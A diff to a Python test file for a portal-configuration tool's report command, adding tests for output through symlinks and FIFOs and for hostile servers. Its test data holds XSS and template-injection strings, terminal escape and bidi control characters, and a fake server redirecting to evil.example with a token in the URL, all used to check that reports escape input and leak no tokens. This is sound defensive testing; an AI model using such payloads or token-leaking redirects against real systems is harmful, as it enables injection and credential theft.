@@ -7,19 +7,30 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Callable, Iterator
+import os
+import threading
+from collections.abc import Callable
+from pathlib import Path
 
 import pytest
+from jsonschema import Draft202012Validator
 
-from conftest import REPO
+from conftest import REPO, SOFTWARE_TOKEN, Invoke
 from portal_config.render.report import render_csv
 from portal_config.run.report import AccountAlignment, AccountEntry, Alignment, FieldRow, PortalRow
+from portal_config.sandbox import Sandbox
 from report_fleet import (  # noqa: F401 (sandbox_fixture is the report_sandbox fixture)
     TOKENS,
     sandbox_fixture,
     write_fleet,
 )
-from test_hostile_servers import Hostile, Script
+from test_hostile_servers import (
+    Hostile,
+    Script,
+    answer,
+    envelope_answer,
+    hostile,  # noqa: F401 (a fixture)
+)
 
 SCHEMA = json.loads((REPO / "schema" / "alignment.schema.json").read_text(encoding="utf-8"))
 # Markup, a closing tag, template syntax, a terminal title, a bidi override and a NUL.
@@ -27,19 +38,6 @@ SPITE = (
     '<script>alert(1)</script>"><img src=x onerror=alert(2)></td></style>'
     "{{ 7*7 }}{% if 1 %}x{% endif %}\x1b]0;pwned\x07\u202eevil\x00"
 )
-
-
-@pytest.fixture
-def hostile() -> Iterator[Callable[[Script], Hostile]]:
-    servers: list[Hostile] = []
-
-    def start(script: Script) -> Hostile:
-        servers.append(Hostile(script))
-        return servers[-1]
-
-    yield start
-    for server in servers:
-        server.stop()
 
 
 def _one_value_report(values: list[str]) -> Alignment:
@@ -77,3 +75,100 @@ def test_csv_cells_never_start_a_formula_after_leading_spaces() -> None:
         " plain",
     ]
     assert [row[1] for row in rows] == [row[0] for row in rows]  # the portals column too
+
+
+# -- --out ----------------------------------------------------------------------------------
+@pytest.fixture
+def files_only(project: Path) -> Path:
+    """A one-account repository of the shipped portals, read from the files only."""
+    for path in (REPO / "portals").iterdir():
+        (project / "portals" / path.name).write_bytes(path.read_bytes())
+    (project / "worktypes.yaml").write_bytes((REPO / "worktypes.yaml").read_bytes())
+    (project / "portal-config.yaml").write_text(
+        "targets: {test: {base_url: 'http://127.0.0.1:9/'}}\n", encoding="utf-8"
+    )
+    return project
+
+
+def test_out_through_a_link_writes_the_file_it_names_and_keeps_the_link(
+    files_only: Path, invoke: Invoke
+) -> None:
+    (files_only / "site").mkdir()
+    (files_only / "site" / "index.html").write_text("old", encoding="utf-8")
+    (files_only / "latest.html").symlink_to("site/index.html")
+    result = invoke("report", "--out", "latest.html")
+    assert result.exit_code == 0, result.output
+    assert (files_only / "latest.html").is_symlink()
+    assert (
+        (files_only / "site" / "index.html")
+        .read_text(encoding="utf-8")
+        .startswith("<!DOCTYPE html>")
+    )
+
+
+def test_out_to_a_fifo_hands_the_report_to_its_reader(files_only: Path, invoke: Invoke) -> None:
+    # As `--out /dev/stdout` or a shell's `>(gzip > report.gz)`: the reader waits on that
+    # very file, so it is written to, never replaced by another.
+    fifo = files_only / "pipe"
+    os.mkfifo(fifo)
+    got: list[bytes] = []
+
+    def read() -> None:
+        with fifo.open("rb") as stream:
+            got.append(stream.read())
+
+    reader = threading.Thread(target=read, daemon=True)
+    reader.start()
+    result = invoke("report", "--format", "csv", "--out", "pipe")
+    if reader.is_alive():  # nothing was written to the FIFO: end the reader's wait
+        with fifo.open("wb"):
+            pass
+    reader.join(5)
+    assert result.exit_code == 0, result.output
+    assert fifo.is_fifo()
+    assert got[0].decode("utf-8").startswith("account,portals,field,state,")
+
+
+# -- hostile servers ------------------------------------------------------------------------
+def test_a_server_that_echoes_the_token_or_redirects_is_a_failed_row_as_text(
+    project: Path,
+    report_sandbox: Sandbox,
+    hostile: Callable[[Script], Hostile],  # noqa: F811 (the fixture imported above)
+    invoke: Invoke,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    write_fleet(project, report_sandbox.url, monkeypatch)
+    assert invoke("apply", "--yes").exit_code == 0
+    message = SPITE + TOKENS["beta"] + SOFTWARE_TOKEN + "L" * 100_000
+    echo = hostile(
+        envelope_answer({"code": 1101, "messages": [message], "response": None}, "400 Bad")
+    )
+    redirect = hostile(
+        answer(
+            b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/?token="
+            + TOKENS["gamma"].encode()
+            + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+        )
+    )
+    config = (project / "portal-config.yaml").read_text(encoding="utf-8")
+    config = config.replace("  beta:\n", f"  beta:\n    base_url: {echo.url}\n")
+    config = config.replace("  gamma:\n", f"  gamma:\n    base_url: {redirect.url}\n")
+    (project / "portal-config.yaml").write_text(config, encoding="utf-8")
+    outputs = {f: invoke("report", "--live", "--format", f) for f in ("json", "csv", "html")}
+    for result in outputs.values():
+        assert result.exit_code == 7
+        for token in (*TOKENS.values(), SOFTWARE_TOKEN):
+            assert token not in result.output
+        assert "\x00" not in result.output and "\x1b" not in result.output
+        assert "\u202e" not in result.output
+        assert len(result.output) < 150_000  # the 100 KB message is cut short
+    payload = json.loads(outputs["json"].output)
+    Draft202012Validator(SCHEMA).validate(payload)
+    assert [a["exit_code"] for a in payload["accounts"]] == [0, 4, 4]
+    rows = list(csv.DictReader(io.StringIO(outputs["csv"].output)))
+    assert [r["state"] for r in rows if r["account"] != "acme"] == ["failed", "failed"]
+    html = outputs["html"].output
+    assert "<script>alert" not in html and "<img" not in html and "</style>{{" not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;&#34;&gt;&lt;img src=x" in html
+    assert "{{ 7*7 }}{% if 1 %}x{% endif %}\\x1b]0;pwned\\x07\\u202eevil\\x00" in html
+    assert "redirects are never followed" in html
